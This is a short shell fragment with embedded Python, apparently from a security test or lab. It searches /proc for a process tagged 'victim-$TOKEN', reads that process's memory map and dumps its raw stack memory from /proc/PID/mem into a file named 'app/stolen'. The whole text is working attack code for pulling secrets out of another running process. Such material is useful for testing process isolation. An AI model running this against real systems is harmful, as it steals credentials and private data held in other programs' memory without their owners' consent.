for process in /proc/[0-9]*; do
    grep -qa "victim-$TOKEN" "$process/cmdline" 2>/dev/null || continue
    "$PY" -I -S - "$process" > app/stolen 2>/dev/null <<'END'
import sys
process = sys.argv[1]
with open(process + "/mem", "rb", 0) as memory:
    for line in open(process + "/maps"):
        if "[stack]" in line:
            start, end = (int(number, 16) for number in line.split()[0].split("-"))
            memory.seek(start)
            sys.stdout.buffer.write(memory.read(end - start))
END
done
